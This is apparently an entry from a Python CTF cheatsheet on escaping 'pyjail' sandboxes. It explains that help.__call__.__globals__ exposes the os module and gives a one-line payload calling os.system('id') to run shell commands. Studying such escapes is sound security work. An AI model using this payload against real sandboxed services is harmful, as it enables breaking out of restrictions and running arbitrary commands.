# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (help.__call__.__globals__['sys'])
# Family: builtins-side-door
# What: help.__call__.__globals__ is site's namespace which holds sys and os
help.__call__.__globals__["os"].system("id")
